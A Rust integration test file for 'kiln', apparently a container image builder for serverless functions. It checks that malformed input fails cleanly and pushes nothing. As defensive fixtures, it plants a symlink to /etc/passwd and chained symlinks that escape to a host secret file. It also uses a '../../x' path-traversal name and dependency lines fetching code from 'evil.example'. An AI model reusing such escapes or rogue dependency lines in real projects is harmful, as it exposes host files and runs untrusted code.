//! Bad input fails with a clear error (what, where, what to do), a non-zero exit code, and
//! nothing pushed: the manifest goes last, so a failed build leaves no image behind.

#![allow(clippy::unwrap_used)]

use crate::common;

use std::os::unix::fs::symlink;
use std::path::Path;

use common::images::push_base_images;
use common::kiln::{Kiln, Run, copy_fixture, kiln_built_builder, tiny_base};
use common::registry::{Registry, RegistryKind};

/// Whether the registry holds any manifest for `repo`.
fn has_manifests(reg: &Registry, repo: &str) -> bool {
    reg.storage_root()
        .join("docker/registry/v2/repositories")
        .join(repo)
        .join("_manifests")
        .exists()
}

struct Setup {
    reg: Registry,
    base: String,
    kiln: Kiln,
    work: tempfile::TempDir,
}

fn setup() -> Setup {
    let reg = Registry::start(RegistryKind::Plain);
    let base = push_base_images(&reg, "base/busybox").oci;
    Setup {
        reg,
        base,
        kiln: Kiln::new(),
        work: tempfile::tempdir().unwrap(),
    }
}

impl Setup {
    fn fixture(&self, name: &str) -> std::path::PathBuf {
        copy_fixture(name, &self.work.path().join(name))
    }

    fn build(&self, dir: &Path, runtime: &str, extra: &[&str]) -> Run {
        let image = self.reg.reference("team/broken:1");
        let host = self.reg.host();
        let mut args = vec![
            "build",
            dir.to_str().unwrap(),
            "--runtime",
            runtime,
            "--base",
            &self.base,
            "--image",
            &image,
            "--insecure-registry",
            &host,
        ];
        args.extend_from_slice(extra);
        self.kiln.run(&args)
    }

    fn assert_nothing_pushed(&self) {
        assert!(
            !has_manifests(&self.reg, "team/broken"),
            "a failed build must not leave a manifest"
        );
    }
}

#[test]
fn a_missing_handler_is_a_usage_error_naming_the_file() {
    let s = setup();
    let dir = s.fixture("hello-node");
    std::fs::remove_file(dir.join("handler.js")).unwrap();
    let err = s.build(&dir, "nodejs22", &[]).failure(2).to_string();
    assert!(
        err.contains("has no handler.js: the nodejs22 runtime loads main() from it"),
        "{err}"
    );
    s.assert_nothing_pushed();
}

#[test]
fn an_unknown_runtime_lists_the_known_ones() {
    let s = setup();
    let err = s
        .build(&s.fixture("hello-node"), "ruby3", &[])
        .failure(2)
        .to_string();
    assert!(
        err.contains(
            "unknown runtime \"ruby3\"; known runtimes: nodejs22, nodejs24, nodejs26, python313, \
             python314"
        ),
        "{err}"
    );
    // A typo is answered with the name meant, as clap answers a misspelt flag.
    let err = s
        .build(&s.fixture("hello-node"), "pyhton313", &[])
        .failure(2)
        .to_string();
    assert!(err.contains("(did you mean python313?)"), "{err}");
}

#[test]
fn an_invalid_package_json_names_file_and_line() {
    let s = setup();
    let dir = s.fixture("hello-node");
    std::fs::write(
        dir.join("package.json"),
        "{\n  \"name\": \"x\",\n  \"dependencies\": {\"a\": }\n}\n",
    )
    .unwrap();
    let err = s.build(&dir, "nodejs22", &[]).failure(2).to_string();
    assert!(err.contains("package.json line 3: invalid JSON"), "{err}");
    s.assert_nothing_pushed();
}

#[test]
fn an_invalid_requirements_txt_names_file_and_line() {
    let s = setup();
    let dir = s.fixture("hello-python");
    std::fs::write(
        dir.join("requirements.txt"),
        "requests==2.32.3\nthis is not a requirement\n",
    )
    .unwrap();
    let err = s.build(&dir, "python313", &[]).failure(2).to_string();
    assert!(err.contains("requirements.txt line 2"), "{err}");
    s.assert_nothing_pushed();
}

#[test]
fn a_failing_install_shows_the_tail_of_its_output() {
    let s = setup();
    let dir = s.fixture("hello-node");
    std::fs::write(
        dir.join("package.json"),
        r#"{"dependencies": {"kiln-no-such-package-4d1e9": "1.0.0"}}"#,
    )
    .unwrap();
    let builder = kiln_built_builder(&s.kiln, "nodejs22", &s.work.path().join("bases"));
    let err = s
        .build(&dir, "nodejs22", &["--builder-image", &builder])
        .failure(1)
        .to_string();
    assert!(err.contains("`npm install --omit=dev"), "{err}");
    assert!(
        err.contains("kiln-no-such-package-4d1e9"),
        "the npm error is quoted: {err}"
    );
    s.assert_nothing_pushed();
}

#[test]
fn an_escaping_symlink_is_refused() {
    let s = setup();
    let dir = s.fixture("hello-node");
    symlink("/etc/passwd", dir.join("passwd")).unwrap();
    let err = s.build(&dir, "nodejs22", &[]).failure(2).to_string();
    assert!(err.contains("points to \"/etc/passwd\", outside"), "{err}");
    s.assert_nothing_pushed();
}

#[test]
fn links_leaving_the_function_through_other_links_are_refused_and_nothing_is_read() {
    // Each link alone stays inside when read lexically; through `d/up` they climb out.
    for (name, link) in [
        ("e", "d/up/d/up/../host-secret.json"),
        ("package.json", "d/up/d/up/../host-secret.json"),
    ] {
        let s = setup();
        let dir = s.fixture("hello-node");
        std::fs::write(
            s.work.path().join("host-secret.json"),
            r#"{"name":"host-secret","dependencies":{}}"#,
        )
        .unwrap();
        std::fs::create_dir_all(dir.join("d")).unwrap();
        symlink("..", dir.join("d/up")).unwrap();
        let _ = std::fs::remove_file(dir.join(name));
        symlink(link, dir.join(name)).unwrap();
        let err = s.build(&dir, "nodejs22", &[]).failure(2).to_string();
        assert!(err.contains(name), "{name}: {err}");
        assert!(!err.contains(r#""name":"host-secret""#), "{name}: {err}");
        s.assert_nothing_pushed();
    }
}

#[test]
fn an_unreachable_registry_fails_with_the_host_named() {
    let kiln = Kiln::new();
    let work = tempfile::tempdir().unwrap();
    let dir = copy_fixture("hello-node", &work.path().join("fn"));
    let port = common::free_port();
    let image = format!("127.0.0.1:{port}/team/x:1");
    let run = kiln.run(&[
        "build",
        dir.to_str().unwrap(),
        "--runtime=nodejs22",
        "--base",
        &common::kiln::tiny_base(),
        "--image",
        &image,
        "--insecure-registry",
        &format!("127.0.0.1:{port}"),
    ]);
    let err = run.failure(1);
    assert!(err.contains(&format!("127.0.0.1:{port}")), "{err}");
}

#[test]
fn a_wrong_password_fails_without_revealing_it_and_pushes_nothing() {
    let reg = Registry::start(RegistryKind::BasicTls);
    let base = push_base_images(&reg, "base/busybox").oci;
    let kiln = Kiln::new();
    let work = tempfile::tempdir().unwrap();
    let dir = copy_fixture("hello-node", &work.path().join("fn"));
    let auth = work.path().join("auth.json");
    let host = reg.host();
    let token = common::base64(b"testuser:wrong-Secret-77");
    std::fs::write(
        &auth,
        format!(r#"{{"auths":{{"{host}":{{"auth":"{token}"}}}}}}"#),
    )
    .unwrap();
    let run = kiln.run(&[
        "build",
        dir.to_str().unwrap(),
        "--runtime=nodejs22",
        "--base",
        &base,
        "--image",
        &reg.reference("team/broken:1"),
        "--registry-ca",
        reg.ca_pem().unwrap().to_str().unwrap(),
        "--registry-auth",
        auth.to_str().unwrap(),
    ]);
    let err = run.failure(1);
    assert!(
        err.to_lowercase().contains("unauthorized") || err.contains("401"),
        "{err}"
    );
    assert!(
        !err.contains("wrong-Secret-77") && !err.contains(&token),
        "no secret in errors: {err}"
    );
    assert!(!has_manifests(&reg, "team/broken"));
}

#[test]
fn a_base_image_that_does_not_exist_is_a_usage_error_naming_it() {
    let s = setup();
    let dir = s.fixture("hello-node");
    let missing = s.reg.reference("base/nothing:here");
    let run = s.kiln.run(&[
        "build",
        dir.to_str().unwrap(),
        "--runtime=nodejs22",
        "--base",
        &missing,
        "--image",
        &s.reg.reference("team/broken:1"),
        "--insecure-registry",
        &s.reg.host(),
    ]);
    // The reference is the user's input: a usage error that names it.
    let err = run.failure(2);
    assert!(
        err.contains(&format!("resolving base image {missing}")) && err.contains("not found"),
        "{err}"
    );
    s.assert_nothing_pushed();
}

#[test]
fn a_host_toolchain_that_does_not_match_the_runtime_is_refused_with_deps_sandbox_none() {
    let kiln = Kiln::new();
    let work = tempfile::tempdir().unwrap();
    let dir = copy_fixture("node-deps", &work.path().join("fn"));
    // A fake Node.js 18 first on PATH, whatever the machine has.
    let bin = work.path().join("bin");
    std::fs::create_dir_all(&bin).unwrap();
    for (tool, version) in [("node", "v18.0.0"), ("npm", "10.0.0")] {
        let path = bin.join(tool);
        std::fs::write(&path, format!("#!/bin/sh\necho {version}\n")).unwrap();
        std::fs::set_permissions(&path, std::os::unix::fs::PermissionsExt::from_mode(0o755))
            .unwrap();
    }
    let output = format!("oci:{}", work.path().join("out").display());
    let base = common::kiln::tiny_base();
    let args = [
        "build",
        dir.to_str().unwrap(),
        "--runtime=nodejs22",
        "--base",
        &base,
        "--output",
        &output,
    ];
    let path = format!("{}:/usr/bin:/bin", bin.display());
    let strict = kiln.run_cmd(
        kiln.command()
            .env("PATH", &path)
            .args(args)
            .args(["--deps-sandbox", "none"]),
    );
    let err = strict.failure(1);
    assert!(
        err.contains("node on PATH is \"v18.0.0\" but the nodejs22 runtime needs v22.*"),
        "{err}"
    );
    // Without --deps-sandbox none the toolchain on PATH never stands in, not even with a
    // warning: a --base override without a builder image is refused before it runs.
    let refused = kiln.run_cmd(kiln.command().env("PATH", &path).args(args));
    let err = refused.failure(2);
    assert!(
        err.contains("--builder-image") && !err.contains("v18.0.0"),
        "{err}"
    );
}

#[test]
fn a_base_override_with_dependencies_and_no_builder_image_is_a_usage_error() {
    let kiln = Kiln::new();
    let work = tempfile::tempdir().unwrap();
    let dir = copy_fixture("node-deps", &work.path().join("fn"));
    let out = work.path().join("out");
    let output = format!("oci:{}", out.display());
    let base = tiny_base();
    let run = kiln.run(&[
        "build",
        dir.to_str().unwrap(),
        "--runtime=nodejs22",
        "--base",
        &base,
        "--output",
        &output,
    ]);
    let err = run.failure(2);
    for want in [
        "--deps-sandbox auto needs --builder-image REF",
        &format!("the base {base} is not the nodejs22 runtime's own"),
        "cannot know which toolchain matches it",
        "--deps-sandbox none",
    ] {
        assert!(err.contains(want), "{want:?} missing: {err}");
    }
    assert!(!err.contains("WARN"), "no fallback warning: {err}");
    assert!(!out.join("index.json").exists(), "nothing is written");

    // A Function without dependencies needs no builder image: --base alone builds it.
    let hello = copy_fixture("hello-node", &work.path().join("hello"));
    kiln.run(&[
        "build",
        hello.to_str().unwrap(),
        "--runtime=nodejs22",
        "--base",
        &base,
        "--output",
        &output,
    ])
    .reference();
}

/// Issue 10's bad input: each is exit 2 with the field named, before anything is dialled.
#[test]
fn malformed_destinations_bases_and_flags_are_usage_errors_naming_the_field() {
    let s = setup();
    let dir = s.fixture("hello-node");
    let d = dir.to_str().unwrap();
    let missing = s.work.path().join("no-such-layout");
    let missing_base = format!("oci:{}:x", missing.display());
    let empty = s.work.path().join("empty");
    std::fs::create_dir(&empty).unwrap();
    let empty_base = format!("oci:{}", empty.display());
    let cases: Vec<(Vec<&str>, &str)> = vec![
        (
            vec!["--image", "127.0.0.1:5000"],
            "names a registry host but no repository",
        ),
        (
            vec!["--image", "reg.example:99999/team/x"],
            "between 1 and 65535",
        ),
        (
            vec!["--output", "oci:"],
            "--output \"oci:\" names no directory",
        ),
        // A flag that cannot take what it was given names the one that can.
        (
            vec!["--image", "oci:./o"],
            "to write the layout, use --output oci:./o",
        ),
        (
            vec!["--output", "127.0.0.1:5000/team/x"],
            "to push to a registry, use --image 127.0.0.1:5000/team/x",
        ),
        (
            vec!["--output", "oci:./o", "--stage-dir", "./s"],
            "--stage-dir needs --stage deps (which writes it)",
        ),
        (
            vec!["--output", "oci:./o", "--base", "oci:"],
            "names no layout directory",
        ),
        (
            vec!["--output", "oci:./o", "--base", &missing_base],
            "is not an OCI image layout",
        ),
        (
            vec!["--output", "oci:./o", "--base", &empty_base],
            "is not an OCI image layout",
        ),
        (
            vec![
                "--output",
                "oci:./o",
                "--insecure-registry",
                "http://127.0.0.1:5000",
            ],
            "give HOST[:PORT] only, e.g. --insecure-registry 127.0.0.1:5000",
        ),
        (
            vec!["--output", "oci:./o", "--insecure-registry", "h:70000"],
            "--insecure-registry \"h:70000\": the registry port must be between 1 and 65535",
        ),
    ];
    for (extra, needle) in cases {
        let mut args = vec!["build", d, "--runtime", "nodejs22"];
        args.extend_from_slice(&extra);
        let run = s.kiln.run(&args);
        let err = run.failure(2);
        assert!(err.contains(needle), "{extra:?}: {err}");
    }
}

#[test]
fn a_function_manifest_whose_name_is_not_a_dns_label_is_refused() {
    let s = setup();
    for name in ["../../x", "Hello", "a_b", "-x"] {
        let file = s.work.path().join("fn.yaml");
        std::fs::write(
            &file,
            format!(
                "apiVersion: serverless.kyma-project.io/v1alpha2\nkind: Function\nmetadata:\n  \
                    name: {name:?}\nspec:\n  runtime: nodejs22\n  source:\n    inline:\n      \
                    source: 'module.exports = {{ main: () => 1 }}'\n"
            ),
        )
        .unwrap();
        let run = s.kiln.run(&[
            "build",
            "--function",
            file.to_str().unwrap(),
            "--output",
            "oci:./o",
        ]);
        let err = run.failure(2);
        assert!(
            err.contains(&format!("metadata.name {name:?} is not a valid name")),
            "{name}: {err}"
        );
    }
}

#[test]
fn dependencies_that_bypass_the_package_registry_are_refused_unless_allowed() {
    let s = setup();
    let py = s.work.path().join("py");
    std::fs::create_dir(&py).unwrap();
    std::fs::write(
        py.join("handler.py"),
        "def main(event, context):\n    return 'x'\n",
    )
    .unwrap();
    std::fs::write(
        py.join("requirements.txt"),
        "requests==2.32.3\n-e git+https://evil.example/x.git#egg=x\n",
    )
    .unwrap();
    let err = s.build(&py, "python313", &[]).failure(2).to_string();
    assert!(
        err.contains("requirements.txt line 2") && err.contains("--allow-direct-deps"),
        "{err}"
    );
    s.assert_nothing_pushed();
    let node = s.fixture("hello-node");
    std::fs::write(
        node.join("package.json"),
        "{\n  \"name\": \"x\",\n  \"dependencies\": {\n    \"x\": \
            \"git+https://evil.example/x.git\"\n  }\n}\n",
    )
    .unwrap();
    let err = s.build(&node, "nodejs22", &[]).failure(2).to_string();
    assert!(
        err.contains("package.json line 4") && err.contains("dependencies.x"),
        "{err}"
    );
    // Allowed, the check is passed: what fails now is the install (evil.example does not
    // resolve), not the manifest.
    let run = s.build(&node, "nodejs22", &["--allow-direct-deps"]);
    assert_ne!(run.code, 0);
    assert!(
        !run.stderr.contains("--allow-direct-deps"),
        "{}",
        run.stderr
    );
    s.assert_nothing_pushed();
}

#[test]
fn a_base_index_without_the_wanted_platform_is_a_usage_error() {
    let s = setup();
    let dir = s.fixture("hello-node");
    let bases = push_base_images(&s.reg, "base/multi");
    let image = s.reg.reference("team/broken:1");
    let host = s.reg.host();
    let run = s.kiln.run(&[
        "build",
        dir.to_str().unwrap(),
        "--runtime",
        "nodejs22",
        "--base",
        &bases.index,
        "--platform",
        "linux/s390x",
        "--image",
        &image,
        "--insecure-registry",
        &host,
    ]);
    let err = run.failure(2);
    assert!(
        err.contains("has no linux/s390x image") && err.contains("linux/amd64"),
        "{err}"
    );
    s.assert_nothing_pushed();
}

/// `--platform` must be what the base is: a single-platform amd64 base does not become an
/// arm64 image (it would not start on arm64 nodes), in a list of platforms either (nothing is
/// pushed then, not even the amd64 image's index); a list names each platform once, and
/// flags about one image do not go with it.
#[test]
fn a_platform_the_base_is_not_or_a_list_of_platforms_is_refused() {
    let s = setup();
    let fixture = s.fixture("hello-node");
    for platforms in ["linux/arm64", "linux/amd64,linux/arm64"] {
        let err = s
            .build(&fixture, "nodejs22", &["--platform", platforms])
            .failure(2)
            .to_string();
        assert!(
            err.contains("has no linux/arm64 image (it has: linux/amd64)"),
            "{err}"
        );
    }
    let twice = ["--platform", "linux/amd64,linux/amd64"];
    let err = s.build(&fixture, "nodejs22", &twice).failure(2).to_string();
    assert!(err.contains("linux/amd64 is named twice"), "{err}");
    let tagged = ["--platform", "linux/amd64,linux/arm64", "--tag-by-key"];
    let err = s
        .build(&fixture, "nodejs22", &tagged)
        .failure(2)
        .to_string();
    assert!(
        err.contains("--tag-by-key is about one image") && err.contains("build once per platform"),
        "{err}"
    );
    s.assert_nothing_pushed();
}
